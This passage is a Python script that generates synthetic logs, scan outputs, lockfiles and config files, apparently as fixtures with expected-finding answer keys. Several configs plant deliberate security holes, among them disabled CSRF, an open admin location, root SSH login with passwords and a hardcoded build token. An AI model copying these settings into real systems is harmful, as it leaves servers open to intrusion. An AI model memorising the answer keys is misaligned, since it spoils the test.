            L.append(f" ❯ src/hooks/useCheckout.test.ts (12 tests | 1 failed) 88ms")
            L.append("   × useCheckout > disables pay button while submitting 14ms")
            L.append("     → expected true to be false // Object.is equality")
        else:
            L.append(f" ✓ {f} ({R.randint(2,30)} tests) {R.randint(3,400)}ms")
    L += ["", "⎯⎯⎯⎯⎯⎯⎯ Failed Tests 1 ⎯⎯⎯⎯⎯⎯⎯", "", " FAIL  src/hooks/useCheckout.test.ts > useCheckout > disables pay button while submitting",
          "AssertionError: expected true to be false // Object.is equality", "", "- Expected", "+ Received", "", "- false", "+ true", "",
          " ❯ src/hooks/useCheckout.test.ts:58:41", "     56|     await act(() => result.current.submit());", "     57|     rerender();",
          "     58|     expect(result.current.payDisabled).toBe(false);", "       |                                        ^", "     59|   });", "",
          "⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯⎯[1/1]⎯", "",
          " Test Files  1 failed | 69 passed (70)", "      Tests  1 failed | 1011 passed (1012)", "   Start at  03:01:02", "   Duration  9.41s (transform 1.2s, setup 0ms, collect 22.1s, tests 3.9s, environment 11.2s, prepare 4.1s)"]
    w("vitest.txt", "\n".join(L), "useCheckout.test.ts:58:41 disables pay button expected true to be false")


def playwright():
    L = ["", "Running 96 tests using 4 workers", ""]
    for i in range(96):
        br = ["chromium", "firefox", "webkit"][i % 3]
        if i == 70:
            L.append(f"  ✘  {i+1} [{br}] › checkout.spec.ts:33:5 › checkout › applies coupon (30.0s)")
        else:
            L.append(f"  ✓  {i+1} [{br}] › {R.choice(['cart','search','login','profile'])}.spec.ts:{R.randint(5,90)}:5 › {R.choice(WORDS)} flow ({R.uniform(0.4,6):.1f}s)")
    L += ["", "", "  1) [webkit] › checkout.spec.ts:33:5 › checkout › applies coupon ─────────────────────────────────", "",
          "    Test timeout of 30000ms exceeded.", "", "    Error: locator.click: Test timeout of 30000ms exceeded.", "    Call log:",
          "      - waiting for getByRole('button', { name: 'Apply coupon' })", "", "      31 |   await page.goto('/checkout');",
          "      32 |   await page.getByLabel('Coupon').fill('SAVE10');", "    > 33 |   await page.getByRole('button', { name: 'Apply coupon' }).click();", "         |                                                             ^",
          "      34 |   await expect(page.getByText('-10%')).toBeVisible();", "", "        at /home/dev/web/e2e/checkout.spec.ts:33:61", "",
          "    attachment #1: screenshot (image/png) ──────────────────────────────────────────────────────", "    test-results/checkout-applies-coupon-webkit/test-failed-1.png", "",
          "  1 failed", "    [webkit] › checkout.spec.ts:33:5 › checkout › applies coupon ──────────────────────────────────", "  95 passed (2.4m)"]
    w("playwright.txt", "\n".join(L), "webkit checkout.spec.ts:33 applies coupon timeout waiting for Apply coupon button")


def cypress():
    L = ["", "====================================================================================================", "", "  (Run Starting)", ""]
    specs = [f"{R.choice(WORDS)}.cy.ts" for _ in range(18)]
    specs[11] = "checkout.cy.ts"
    for s in specs:
        L += ["────────────────────────────────────────────────────────────────────────────────────────────────────", f"  Running:  {s}", ""]
        n = R.randint(3, 9)
        L.append(f"  {s.split('.')[0]}")
        for j in range(n):
            if s == "checkout.cy.ts" and j == 2:
                L.append("    1) shows order total after shipping change")
            else:
                L.append(f"    ✓ {R.choice(['renders', 'submits', 'validates', 'navigates'])} {R.choice(WORDS)} ({R.randint(100,3000)}ms)")
        if s == "checkout.cy.ts":
            L += ["", "  1 failing", "", "  1) checkout", "       shows order total after shipping change:", "     AssertionError: Timed out retrying after 4000ms: expected '<span#total>' to have text '$54.20', but the text was '$49.20'",
                  "      at Context.eval (webpack:///./cypress/e2e/checkout.cy.ts:41:29)", ""]
        L += ["", "  (Results)", "", f"  │ Tests:        {n}", f"  │ Passing:      {n - (1 if s == 'checkout.cy.ts' else 0)}", f"  │ Failing:      {1 if s == 'checkout.cy.ts' else 0}", ""]
    L += ["====================================================================================================", "", "  (Run Finished)", "",
          "       Spec                                              Tests  Passing  Failing  Pending  Skipped"]
    for s in specs:
        L.append(f"  │ {'✖' if s == 'checkout.cy.ts' else '✔'}  {s:<45} {R.randint(1,20):02d}:{R.randint(0,59):02d}  {R.randint(3,9):>6} {R.randint(3,9):>8} {1 if s == 'checkout.cy.ts' else '-':>8} {'-':>8} {'-':>8} │")
    L += ["    ✖  1 of 18 failed (6%)                       05:12      102      101        1        -        -"]
    w("cypress_run.txt", "\n".join(L), "checkout.cy.ts:41 total expected $54.20 was $49.20")

# ---------------- load / network ----------------

def k6():
    L = ["", "          /\\      |‾‾| /‾‾/   /‾‾/   ", "     /\\  /  \\     |  |/  /   /  /    ", "    /  \\/    \\    |     (   /   ‾‾\\  ",
         "   /          \\   |  |\\  \\ |  (‾)  | ", "  / __________ \\  |__| \\__\\ \\_____/ .io", "", "     execution: local", "        script: load/checkout.js",
         "        output: -", "", "     scenarios: (100.00%) 1 scenario, 200 max VUs, 5m30s max duration (incl. graceful stop):",
         "              * default: Up to 200 looping VUs for 5m0s over 3 stages (gracefulRampDown: 30s, gracefulStop: 30s)", ""]
    for i in range(300):
        L.append(f"running (0{i//60}m{i%60:02d}.0s), {min(200, i):03d}/200 VUs, {i*37} complete and 0 interrupted iterations")
        L.append(f"default   [ {'=' * (i * 40 // 300):<40} ] {min(200,i):03d}/200 VUs  0{i//60}m{i%60:02d}.0s/5m0s")
    L += ["", "     ✓ status is 200", "     ✗ checkout under 800ms", "      ↳  71% — ✓ 31233 / ✗ 12711", "",
          "     checks.........................: 85.52% ✓ 74010 ✗ 12711", "     data_received..................: 512 MB 1.7 MB/s", "     data_sent......................: 41 MB  136 kB/s",
          "     http_req_blocked...............: avg=14.2µs  min=1µs    med=4µs     max=31.2ms  p(90)=7µs     p(95)=9µs",
          "     http_req_duration..............: avg=612.3ms min=21.4ms med=402.1ms max=9.81s   p(90)=1.42s   p(95)=2.88s",
          "       { expected_response:true }...: avg=598.1ms min=21.4ms med=399.9ms max=9.81s   p(90)=1.39s   p(95)=2.71s",
          "     http_req_failed................: 3.12%  ✓ 1351  ✗ 41923", "     http_reqs......................: 43274  144.24/s",
          "     iterations.....................: 43274  144.24/s", "     vus............................: 200    min=1   max=200", "",
          "ERRO[0331] thresholds on metrics 'http_req_duration' have been crossed"]
    w("k6_run.txt", "\n".join(L), "p(95)=2.88s threshold crossed; 29% over 800 ms; 3.12% failed")


def ab():
    txt = """This is ApacheBench, Version 2.3 <$Revision: 1913912 $>
Copyright 1996 Adam Twiss, Zeus Technology Ltd, http://www.zeustech.net/
Licensed to The Apache Software Foundation, http://www.apache.org/

Benchmarking api.staging.example.com (be patient)
Completed 1000 requests
Completed 2000 requests
Completed 3000 requests
Completed 4000 requests
Completed 5000 requests
Completed 6000 requests
Completed 7000 requests
Completed 8000 requests
Completed 9000 requests
Completed 10000 requests
Finished 10000 requests


Server Software:        nginx/1.27.2
Server Hostname:        api.staging.example.com
Server Port:            443
SSL/TLS Protocol:       TLSv1.3,TLS_AES_256_GCM_SHA384,2048,256
Server Temp Key:        X25519 253 bits
TLS Server Name:        api.staging.example.com

Document Path:          /api/v1/items?limit=20
Document Length:        5321 bytes

Concurrency Level:      100
Time taken for tests:   41.882 seconds
Complete requests:      10000
Failed requests:        1873
   (Connect: 0, Receive: 0, Length: 1873, Exceptions: 0)
Non-2xx responses:      1873
Total transferred:      47123311 bytes
HTML transferred:       43901231 bytes
Requests per second:    238.77 [#/sec] (mean)
Time per request:       418.820 [ms] (mean)
Time per request:       4.188 [ms] (mean, across all concurrent requests)
Transfer rate:          1098.79 [Kbytes/sec] received

Connection Times (ms)
              min  mean[+/-sd] median   max
Connect:        3   12  21.3      6     311
Processing:    18  405 812.1    121   30011
Waiting:       18  404 812.0    120   30010
Total:         22  417 813.4    128   30022

Percentage of the requests served within a certain time (ms)
  50%    128
  66%    201
  75%    288
  80%    391
  90%    911
  95%   2210
  98%   5012
  99%   9120
 100%  30022 (longest request)"""
    w("ab_bench.txt", txt, "Failed requests 1873 Non-2xx; 99% 9120 ms; max 30022")


def nmap():
    L = ["Starting Nmap 7.95 ( https://nmap.org ) at 2026-12-06 03:00 UTC"]
    for h in range(1, 40):
        ip = f"10.0.5.{h}"
        L += [f"Nmap scan report for host-{h}.internal ({ip})", f"Host is up (0.000{R.randint(10,99)}s latency).", f"Not shown: {997 - (1 if h == 23 else 0)} filtered tcp ports (no-response)",
              "PORT    STATE SERVICE  VERSION", "22/tcp  open  ssh      OpenSSH 9.6p1 Ubuntu 3ubuntu13.5 (Ubuntu Linux; protocol 2.0)",
              "80/tcp  closed http", "443/tcp open  ssl/http nginx 1.24.0 (Ubuntu)"]
        if h == 23:
            L.append("6379/tcp open  redis    Redis key-value store 7.0.15")
        L += [f"MAC Address: 02:{hexs(2)}:{hexs(2)}:{hexs(2)}:{hexs(2)}:{hexs(2)} (Unknown)", ""]
    L += ["Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel", "", "Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .",
          "Nmap done: 256 IP addresses (39 hosts up) scanned in 312.44 seconds"]
    w("nmap_sV.txt", "\n".join(L), "host-23 10.0.5.23 6379/tcp open redis")


def dig():
    txt = """
; <<>> DiG 9.18.28-0ubuntu0.24.04.1-Ubuntu <<>> api.example.com +trace
;; global options: +cmd
.			518400	IN	NS	a.root-servers.net.
.			518400	IN	NS	b.root-servers.net.
.			518400	IN	NS	c.root-servers.net.
.			518400	IN	NS	d.root-servers.net.
.			518400	IN	NS	e.root-servers.net.
.			518400	IN	NS	f.root-servers.net.
.			518400	IN	NS	g.root-servers.net.
.			518400	IN	NS	h.root-servers.net.
.			518400	IN	NS	i.root-servers.net.
.			518400	IN	NS	j.root-servers.net.
.			518400	IN	NS	k.root-servers.net.
.			518400	IN	NS	l.root-servers.net.
.			518400	IN	NS	m.root-servers.net.
;; Received 525 bytes from 127.0.0.53#53(127.0.0.53) in 0 ms

com.			172800	IN	NS	a.gtld-servers.net.
com.			172800	IN	NS	b.gtld-servers.net.
com.			172800	IN	NS	c.gtld-servers.net.
com.			172800	IN	NS	d.gtld-servers.net.
com.			86400	IN	DS	19718 13 2 8ACBB0CD28F41250A80A491389424D341522D946B0DA0C0291F2D3D7 71D7805A
com.			86400	IN	RRSIG	DS 8 1 86400 20261219050000 20261206040000 61050 . Kx7bT0dnR1HnWlhQ0z0p7Gz7rUz5yDqP3 kN1yq8F6Dd8J4sXo5w==
;; Received 1171 bytes from 199.7.83.42#53(l.root-servers.net) in 12 ms

example.com.		172800	IN	NS	ns1.old-dns-host.net.
example.com.		172800	IN	NS	ns2.old-dns-host.net.
;; Received 291 bytes from 192.5.6.30#53(a.gtld-servers.net) in 20 ms

api.example.com.	300	IN	CNAME	api-lb-1873.us-east-1.elb.amazonaws.com.
;; Received 112 bytes from 198.51.100.53#53(ns1.old-dns-host.net) in 88 ms
"""
    w("dig_trace.txt", txt, "delegation to ns1.old-dns-host.net; CNAME api-lb-1873 elb")


def traceroute():
    L = ["traceroute to db.eu.example.com (203.0.113.40), 30 hops max, 60 byte packets", " 1  _gateway (192.168.1.1)  0.412 ms  0.388 ms  0.371 ms"]
    for h in range(2, 21):
        if 13 <= h <= 18:
            L.append(f"{h:2d}  * * *")
        elif h == 12:
            L.append(f"{h:2d}  ae-4.r21.frnkge13.de.bb.example.net (198.51.100.{h})  {R.uniform(180,260):.3f} ms  {R.uniform(180,260):.3f} ms  {R.uniform(180,260):.3f} ms")
        else:
            L.append(f"{h:2d}  ae-{h}.r{h}.{R.choice(['nycmny01','lndngb12','amstnl02'])}.bb.example.net (198.51.100.{h})  {h*4+R.uniform(0,3):.3f} ms  {h*4+R.uniform(0,3):.3f} ms  {h*4+R.uniform(0,3):.3f} ms")
    L += ["21  db.eu.example.com (203.0.113.40)  261.221 ms  259.884 ms  260.001 ms"]
    w("traceroute.txt", "\n".join(L), "hop 12 frnkge jumps to ~200 ms; hops 13-18 * * *")


def openssl_x509():
    L = ["Certificate:", "    Data:", "        Version: 3 (0x2)", "        Serial Number:", "            04:" + ":".join(hexs(2) for _ in range(17)),
         "        Signature Algorithm: sha256WithRSAEncryption", "        Issuer: C = US, O = Let's Encrypt, CN = R11", "        Validity",
         "            Not Before: Sep  7 03:12:44 2026 GMT", "            Not After : Dec  6 03:12:43 2026 GMT",
         "        Subject: CN = shop.example.com", "        Subject Public Key Info:", "            Public Key Algorithm: rsaEncryption", "                Public-Key: (2048 bit)", "                Modulus:"]
    for i in range(17):
        L.append("                    " + ":".join(hexs(2) for _ in range(15)) + ":")
    L += ["                Exponent: 65537 (0x10001)", "        X509v3 extensions:", "            X509v3 Key Usage: critical", "                Digital Signature, Key Encipherment",
          "            X509v3 Extended Key Usage: ", "                TLS Web Server Authentication, TLS Web Client Authentication", "            X509v3 Basic Constraints: critical", "                CA:FALSE",
          "            X509v3 Subject Key Identifier: ", "                " + ":".join(hexs(2).upper() for _ in range(20)), "            Authority Information Access: ",
          "                CA Issuers - URI:http://r11.i.lencr.org/", "            X509v3 Subject Alternative Name: ", "                DNS:shop.example.com, DNS:www.shop.example.com",
          "            X509v3 Certificate Policies: ", "                Policy: 2.23.140.1.2.1", "            CT Precertificate SCTs: "]
    for i in range(2):
        L += ["                Signed Certificate Timestamp:", "                    Version   : v1 (0x0)", "                    Log ID    : " + ":".join(hexs(2).upper() for _ in range(16)) + ":",
              "                                " + ":".join(hexs(2).upper() for _ in range(16)), "                    Timestamp : Sep  7 04:12:44.123 2026 GMT", "                    Extensions: none",
              "                    Signature : ecdsa-with-SHA256", "                                " + ":".join(hexs(2).upper() for _ in range(16)) + ":", "                                " + ":".join(hexs(2).upper() for _ in range(16))]
    L += ["    Signature Algorithm: sha256WithRSAEncryption", "    Signature Value:"]
    for i in range(17):
        L.append("        " + ":".join(hexs(2) for _ in range(18)) + ":")
    w("openssl_x509_text.txt", "\n".join(L), "Not After Dec 6 2026 (expired today); SAN lacks api.shop.example.com")


def curl_v():
    L = ["*   Trying 203.0.113.10:443...", "* Connected to api.example.com (203.0.113.10) port 443", "* ALPN: curl offers h2,http/1.1",
         "* TLSv1.3 (OUT), TLS handshake, Client hello (1):", "*  CAfile: /etc/ssl/certs/ca-certificates.crt", "*  CApath: /etc/ssl/certs",
         "* TLSv1.3 (IN), TLS handshake, Server hello (2):", "* TLSv1.3 (IN), TLS handshake, Encrypted Extensions (8):", "* TLSv1.3 (IN), TLS handshake, Certificate (11):",
         "* TLSv1.3 (IN), TLS handshake, CERT verify (15):", "* TLSv1.3 (IN), TLS handshake, Finished (20):", "* TLSv1.3 (OUT), TLS handshake, Finished (20):",
         "* SSL connection using TLSv1.3 / TLS_AES_128_GCM_SHA256 / x25519 / RSASSA-PSS", "* ALPN: server accepted h2", "* Server certificate:",
         "*  subject: CN=api.example.com", "*  start date: Oct  1 00:00:00 2026 GMT", "*  expire date: Dec 30 23:59:59 2026 GMT",
         "*  subjectAltName: host \"api.example.com\" matched cert's \"api.example.com\"", "*  issuer: C=US; O=Let's Encrypt; CN=R10", "*  SSL certificate verify ok.",
         "* using HTTP/2", "* [HTTP/2] [1] OPENED stream for https://api.example.com/v2/orders", "* [HTTP/2] [1] [:method: POST]", "* [HTTP/2] [1] [:scheme: https]",
         "* [HTTP/2] [1] [:authority: api.example.com]", "* [HTTP/2] [1] [:path: /v2/orders]", "* [HTTP/2] [1] [authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.sig]",
         "> POST /v2/orders HTTP/2", "> Host: api.example.com", "> User-Agent: curl/8.5.0", "> Accept: */*", "> Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.sig",
         "> Content-Type: application/json", "> Content-Length: 61", ">", "* TLSv1.3 (IN), TLS handshake, Newsession Ticket (4):", "< HTTP/2 422",
         "< date: Sun, 06 Dec 2026 03:02:11 GMT", "< content-type: application/problem+json", "< content-length: 187", "< x-request-id: " + hexs(32),
         "< strict-transport-security: max-age=63072000", "< vary: Accept-Encoding", "< cf-cache-status: DYNAMIC", "< server: cloudflare", "<",
         '{"type":"https://api.example.com/problems/validation","title":"Unprocessable Entity","status":422,"detail":"items[0].sku: unknown SKU \'SKU-00931\'","instance":"/v2/orders"}',
         "* Connection #0 to host api.example.com left intact"]
    w("curl_v.txt", "\n".join(L), "HTTP/2 422 items[0].sku unknown SKU-00931")


def http_headers():
    L = ["HTTP/1.1 301 Moved Permanently", "Location: https://www.example.com/", "Content-Length: 0", "", "HTTP/2 200", "date: Sun, 06 Dec 2026 03:02:11 GMT",
         "content-type: text/html; charset=utf-8", "cache-control: public, max-age=31536000, immutable", "set-cookie: session=abc; Path=/; HttpOnly",
         "content-security-policy: default-src 'self'; script-src 'self' 'unsafe-inline' https://cdn.example.com; img-src * data:; connect-src 'self' https://api.example.com",
         "x-frame-options: SAMEORIGIN", "x-content-type-options: nosniff", "referrer-policy: strict-origin-when-cross-origin", "vary: Accept-Encoding", "server: nginx", "x-cache: HIT",
         "age: 88123", "via: 1.1 varnish"]
    w("curl_I_headers.txt", "\n".join(L), "html cached immutable max-age 1y, age 88123 (stale html); set-cookie without Secure")


# ---------------- dependencies ----------------

def pip_outdated():
    L = ["Package                  Version     Latest      Type", "------------------------ ----------- ----------- -----"]
    for i in range(70):
        v = f"{R.randint(0,5)}.{R.randint(0,30)}.{R.randint(0,9)}"
        lat = v.rsplit(".", 1)[0] + "." + str(int(v.rsplit(".", 1)[1]) + 1)
        name = f"{R.choice(['py','lib','django-','flask-','types-'])}{R.choice(WORDS)}{i}"
        if i == 38: name, v, lat = "Django", "3.2.25", "5.1.4"
        L.append(f"{name:<24} {v:<11} {lat:<11} wheel")
    w("pip_list_outdated.txt", "\n".join(L), "Django 3.2.25 -> 5.1.4 (EOL, major)")


def pip_freeze():
    L = [f"{R.choice(['py','lib','aio','types-'])}{R.choice(WORDS)}{i}=={R.randint(0,5)}.{R.randint(0,30)}.{R.randint(0,9)}" for i in range(140)]
    L.insert(61, "-e git+https://github.com/acme/legacy-auth.git@3f9a1c2e#egg=legacy_auth")
    L.insert(90, "cryptography==3.3.2")
    w("requirements.txt", "\n".join(L), "cryptography==3.3.2 (old); -e git legacy_auth")


def poetry_lock():
    L = ["# This file is automatically @generated by Poetry 1.8.4 and should not be changed by hand.", ""]
    for i in range(90):
        name = f"{R.choice(['py','lib','aio'])}{R.choice(WORDS)}{i}"
        ver = f"{R.randint(0,5)}.{R.randint(0,30)}.{R.randint(0,9)}"
        if i == 57: name, ver = "urllib3", "1.26.5"
        L += ["[[package]]", f'name = "{name}"', f'version = "{ver}"', f'description = "{R.choice(WORDS)} utilities"', 'optional = false', 'python-versions = ">=3.8"',
              "files = [", f'    {{file = "{name}-{ver}-py3-none-any.whl", hash = "sha256:{hexs(64)}"}},', f'    {{file = "{name}-{ver}.tar.gz", hash = "sha256:{hexs(64)}"}},', "]", ""]
        if R.random() < 0.3:
            L += ["[package.dependencies]", f'{R.choice(WORDS)} = ">={R.randint(0,3)}.0"', ""]
    L += ["[metadata]", 'lock-version = "2.0"', 'python-versions = "^3.11"', f'content-hash = "{hexs(64)}"']
    w("poetry.lock", "\n".join(L), "urllib3 1.26.5 (CVE); package names/versions")


def gemfile_lock():
    L = ["GEM", "  remote: https://rubygems.org/", "  specs:"]
    for i in range(110):
        name = f"{R.choice(WORDS)}-{R.choice(['rb','rails','client','core'])}{i}"
        ver = f"{R.randint(0,7)}.{R.randint(0,20)}.{R.randint(0,9)}"
        if i == 70: name, ver = "nokogiri", "1.13.10"
        L.append(f"    {name} ({ver})")
        for _ in range(R.randint(0, 3)):
            L.append(f"      {R.choice(WORDS)}-core (>= {R.randint(0,3)}.0)")
    L += ["", "PLATFORMS", "  x86_64-linux", "", "DEPENDENCIES", "  rails (~> 7.1.0)", "  nokogiri", "  pg", "  puma", "", "RUBY VERSION", "   ruby 3.3.5p100", "", "BUNDLED WITH", "   2.5.22"]
    w("Gemfile.lock", "\n".join(L), "nokogiri 1.13.10 (old); gem list")


def go_mod():
    L = ["module github.com/acme/shop", "", "go 1.22.0", "", "toolchain go1.23.3", "", "require ("]
    for i in range(25):
        L.append(f"\tgithub.com/{R.choice(WORDS)}/{R.choice(WORDS)}{i} v{R.randint(0,2)}.{R.randint(0,30)}.{R.randint(0,9)}")
    L += [")", "", "require ("]
    for i in range(70):
        L.append(f"\tgithub.com/{R.choice(WORDS)}/{R.choice(WORDS)}x{i} v{R.randint(0,2)}.{R.randint(0,30)}.{R.randint(0,9)} // indirect")
    L += [")", "", "replace github.com/golang-jwt/jwt/v4 => github.com/acme/jwt-fork/v4 v4.0.0-20230101000000-" + hexs(12), ""]
    w("go.mod", "\n".join(L), "replace golang-jwt => acme fork")


def composer_json():
    d = {"name": "acme/shop", "type": "project", "description": "Shop backend", "license": "proprietary",
         "require": {"php": "^8.2", "laravel/framework": "^11.0", "guzzlehttp/guzzle": "^7.8", "league/flysystem-aws-s3-v3": "^3.0", "spatie/laravel-permission": "^6.0",
                     "acme/legacy-billing": "dev-master", "predis/predis": "^2.2"},
         "require-dev": {"phpunit/phpunit": "^11.0", "laravel/pint": "^1.13", "mockery/mockery": "^1.6", "fakerphp/faker": "^1.23"},
         "repositories": [{"type": "vcs", "url": "git@github.com:acme/legacy-billing.git"}],
         "autoload": {"psr-4": {"App\\": "app/", "Database\\Factories\\": "database/factories/", "Database\\Seeders\\": "database/seeders/"}},
         "scripts": {"post-autoload-dump": ["Illuminate\\Foundation\\ComposerScripts::postAutoloadDump", "@php artisan package:discover --ansi"], "test": "phpunit"},
         "config": {"optimize-autoloader": True, "preferred-install": "dist", "sort-packages": True, "allow-plugins": {"pestphp/pest-plugin": True, "php-http/discovery": True}},
         "minimum-stability": "dev", "prefer-stable": True}
    w("composer.json", json.dumps(d, indent=4), "acme/legacy-billing dev-master, minimum-stability dev")


def npm_audit_json():
    vulns = {}
    for i in range(40):
        name = f"{R.choice(WORDS)}-{R.choice(['utils','parser','core'])}{i}"
        sev = R.choice(["low", "moderate", "moderate"])
        if i == 29: name, sev = "jsonwebtoken", "critical"
        vulns[name] = {"name": name, "severity": sev, "isDirect": i == 29, "via": [{"source": R.randint(1000000, 1100000), "name": name, "dependency": name,
                       "title": "Improper input validation" if i != 29 else "jsonwebtoken unrestricted key type could lead to legacy keys usage / signature bypass", "url": f"https://github.com/advisories/GHSA-{rid(4)}-{rid(4)}-{rid(4)}",
                       "severity": sev, "cwe": ["CWE-20"], "cvss": {"score": 9.8 if i == 29 else 5.3, "vectorString": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}, "range": "<9.0.0"}],
                       "effects": [], "range": "<9.0.0", "nodes": [f"node_modules/{name}"], "fixAvailable": True if i != 29 else {"name": "jsonwebtoken", "version": "9.0.2", "isSemVerMajor": True}}
    d = {"auditReportVersion": 2, "vulnerabilities": vulns, "metadata": {"vulnerabilities": {"info": 0, "low": sum(v["severity"] == "low" for v in vulns.values()),
         "moderate": sum(v["severity"] == "moderate" for v in vulns.values()), "high": 0, "critical": 1, "total": 40}, "dependencies": {"prod": 412, "dev": 901, "optional": 12, "peer": 0, "peerOptional": 0, "total": 1312}}}
    w("npm_audit.json", json.dumps(d, indent=2), "jsonwebtoken critical CVSS 9.8 fix 9.0.2 semver major")


# ---------------- configs ----------------

def app_ini():
    L = ["; app.ini — generated by ops-bootstrap", ""]
    for s in ["server", "database", "cache", "mailer", "security", "logging", "session", "uploads", "metrics", "feature_flags", "payments", "search"]:
        L += [f"[{s}]"]
        for k in range(R.randint(5, 14)):
            L.append(f"{R.choice(WORDS)}_{k} = {R.choice(['true', 'false', str(R.randint(1,9000)), 'localhost', '/var/lib/app'])}")
        if s == "security":
            L += ["csrf_protection = false", "allowed_hosts = *"]
        L.append("")
    w("app.ini", "\n".join(L), "[security] csrf_protection = false; allowed_hosts = *")


def nginx_conf():
    L = ["user www-data;", "worker_processes auto;", "pid /run/nginx.pid;", "include /etc/nginx/modules-enabled/*.conf;", "", "events {", "    worker_connections 768;", "}", "",
         "http {", "    sendfile on;", "    tcp_nopush on;", "    types_hash_max_size 2048;", "    server_tokens off;", "    include /etc/nginx/mime.types;", "    default_type application/octet-stream;",
         "    ssl_protocols TLSv1.2 TLSv1.3;", "    access_log /var/log/nginx/access.log;", "    error_log /var/log/nginx/error.log;", "    gzip on;", ""]
    for i, svc in enumerate(SVCS[:10]):
        L += [f"    upstream {svc} {{", f"        server 10.0.2.{i+10}:8080 max_fails=3 fail_timeout=10s;", f"        server 10.0.2.{i+30}:8080 max_fails=3 fail_timeout=10s;", "        keepalive 32;", "    }", ""]
    L += ["    server {", "        listen 443 ssl http2;", "        server_name shop.example.com;", "        ssl_certificate /etc/letsencrypt/live/shop.example.com/fullchain.pem;",
          "        ssl_certificate_key /etc/letsencrypt/live/shop.example.com/privkey.pem;", "        client_max_body_size 10m;", ""]
    for svc in SVCS[:10]:
        L += [f"        location /api/{svc}/ {{", f"            proxy_pass http://{svc}/;", "            proxy_set_header Host $host;", "            proxy_set_header X-Real-IP $remote_addr;",
              "            proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;", "            proxy_read_timeout 30s;", "        }", ""]
    L += ["        location /admin/ {", "            # TODO restrict to VPN", "            proxy_pass http://api-gateway/admin/;", "            autoindex on;", "        }", "    }", "}"]
    w("nginx.conf", "\n".join(L), "/admin/ without allow/deny, autoindex on; upstreams/locations")


def sshd_config():
    L = ["# This is the sshd server system-wide configuration file.  See", "# sshd_config(5) for more information.", "",
         "# The strategy used for options in the default sshd_config shipped with", "# OpenSSH is to specify options with their default value where", "# possible, but leave them commented.", "",
         "Include /etc/ssh/sshd_config.d/*.conf", "", "#Port 22", "#AddressFamily any", "#ListenAddress 0.0.0.0", "", "#HostKey /etc/ssh/ssh_host_rsa_key", "#HostKey /etc/ssh/ssh_host_ed25519_key", "",
         "# Logging", "#SyslogFacility AUTH", "#LogLevel INFO", "", "# Authentication:", "", "#LoginGraceTime 2m", "PermitRootLogin yes", "#StrictModes yes", "#MaxAuthTries 6", "#MaxSessions 10", "",
         "#PubkeyAuthentication yes", "", "#AuthorizedKeysFile	.ssh/authorized_keys .ssh/authorized_keys2", "", "# To disable tunneled clear text passwords, change to no here!",
         "PasswordAuthentication yes", "#PermitEmptyPasswords no", "", "KbdInteractiveAuthentication no", "", "UsePAM yes", "", "#AllowAgentForwarding yes", "#AllowTcpForwarding yes",
         "#GatewayPorts no", "X11Forwarding yes", "#X11DisplayOffset 10", "#PrintMotd yes", "#TCPKeepAlive yes", "#UseDNS no", "#PidFile /run/sshd.pid", "#MaxStartups 10:30:100",
         "#PermitTunnel no", "#ChrootDirectory none", "#VersionAddendum none", "", "# no default banner path", "#Banner none", "",
         "# Allow client to pass locale environment variables", "AcceptEnv LANG LC_*", "", "# override default of no subsystems", "Subsystem	sftp	/usr/lib/openssh/sftp-server", "",
         "# Example of overriding settings on a per-user basis", "#Match User anoncvs", "#	X11Forwarding no", "#	AllowTcpForwarding no", "#	PermitTTY no", "#	ForceCommand cvs server",
         "Match Address 10.0.0.0/8", "    PermitRootLogin prohibit-password"]
    w("sshd_config", "\n".join(L), "PermitRootLogin yes; PasswordAuthentication yes")


def dockerfile():
    L = ["# syntax=docker/dockerfile:1.7", "FROM node:20-bookworm AS deps", "WORKDIR /app", "COPY package.json package-lock.json ./", "RUN npm ci", "",
         "FROM node:20-bookworm AS build", "WORKDIR /app", "COPY --from=deps /app/node_modules ./node_modules", "COPY . .", "ARG NPM_TOKEN=npm_4f8a9c2e1b7d", "RUN npm run build", "",
         "FROM node:20-bookworm-slim", "ENV NODE_ENV=production", "WORKDIR /app", "RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates tini \\",
         "    && rm -rf /var/lib/apt/lists/*", "COPY --from=build /app/dist ./dist", "COPY --from=deps /app/node_modules ./node_modules", "COPY package.json ./",
         "EXPOSE 3000", "HEALTHCHECK --interval=30s --timeout=3s CMD curl -fsS http://localhost:3000/healthz || exit 1", "ENTRYPOINT [\"/usr/bin/tini\", \"--\"]", "CMD [\"node\", \"dist/server.js\"]"]
    w("Dockerfile", "\n".join(L), "ARG NPM_TOKEN literal; no USER (root)")


def makefile():
    L = [".PHONY: all build test lint fmt clean docker deploy migrate", "", "GO ?= go", "PKG := ./...", "VERSION := $(shell git describe --tags --always)",
         "LDFLAGS := -X main.version=$(VERSION)", "", "all: lint test build", ""]
    for t, body in [("build", ["$(GO) build -ldflags '$(LDFLAGS)' -o bin/shop ./cmd/shop"]), ("test", ["$(GO) test -race -count=1 $(PKG)"]),
                    ("lint", ["golangci-lint run"]), ("fmt", ["gofumpt -w ."]), ("clean", ["rm -rf bin/ dist/"]),
                    ("docker", ["docker build -t ghcr.io/acme/shop:$(VERSION) ."]), ("migrate", ["migrate -path migrations -database $$DATABASE_URL up"]),
                    ("deploy", ["kubectl config use-context prod", "kubectl apply -f deploy/k8s/", "kubectl rollout status deploy/shop"])]:
        L += [f"{t}:" + (" docker" if t == "deploy" else ""), *["\t" + b for b in body], ""]
    for i in range(20):
        L += [f"gen-{R.choice(WORDS)}{i}:", f"\tprotoc --go_out=. api/{R.choice(WORDS)}{i}.proto", ""]
    w("Makefile", "\n".join(L), "deploy target uses prod context without confirmation; target list")


def pom_xml():
    L = ['<?xml version="1.0" encoding="UTF-8"?>', '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"',
         '         xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">', "  <modelVersion>4.0.0</modelVersion>",
